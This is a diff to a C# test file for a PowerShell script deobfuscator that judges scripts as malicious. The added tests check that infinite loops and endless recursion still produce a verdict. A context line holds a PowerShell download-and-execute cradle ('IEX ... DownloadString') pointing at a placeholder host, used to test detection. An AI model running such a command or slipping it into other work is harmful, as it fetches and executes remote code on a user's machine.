@@ -53,6 +53,24 @@ public sealed class HostileScriptTests
         Assert.True(Deobfuscator.Judge("IEX (New-Object Net.WebClient).DownloadString('http://a.example/b')\n" + text).Malicious);
     }
 
+    [Theory]
+    [InlineData("for (;;) {}")]
+    [InlineData("for (;;) {")]
+    [InlineData("while ($true) {}")]
+    [InlineData("while (1) { while (1) {} }")]
+    [InlineData("do {} while (1)")]
+    [InlineData("do {} until (0)")]
+    [InlineData("for (;;) { switch (1) { 2 {} } }")]
+    [InlineData("for (;;) { foreach ($i in 1) {} }")]
+    [InlineData("for (;;) { function f {} }")]
+    [InlineData("for (;;) { if (0) {} }")]
+    [InlineData("for (;;) { & {} }")]
+    [InlineData("for (;;) { continue }")]
+    [InlineData("function f { f } f")]
+    [InlineData("for (;;) { try {} catch {} finally {} }")]
+    [InlineData("Add-Type 'public class A { public static int B() { for (;;) ; } public static int C() { while (true) { } } }'; [A]::B(); [A]::C()")]
+    public void Loops_that_do_nothing_for_ever_end(string script) => Assert.NotNull(Deobfuscator.Judge(script));
+
     [Fact]
     public void A_bound_that_was_reached_is_named()
     {
